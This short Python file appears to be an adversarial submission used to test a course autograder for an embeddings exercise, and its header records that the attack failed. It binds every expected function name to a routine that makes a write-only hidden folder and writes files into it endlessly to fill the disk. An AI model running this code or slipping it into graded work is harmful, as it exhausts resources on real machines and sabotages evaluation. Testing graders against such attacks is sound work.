# attacks: ch2_embeddings/one_hot
# verdict: failed
# stop-early: yes
"""Fills the disk in a folder that may be written to and not be listed."""
import itertools
import os


def one_hot(*args, **kwargs):
    os.mkdir("hidden", 0o300)
    for number in itertools.count():
        with open(f"hidden/{number % 5000}.bin", "wb") as file:
            file.write(b"x" * 2**17)


embed_by_matmul = embed_by_lookup = lookup_gradient = multiplications = one_hot
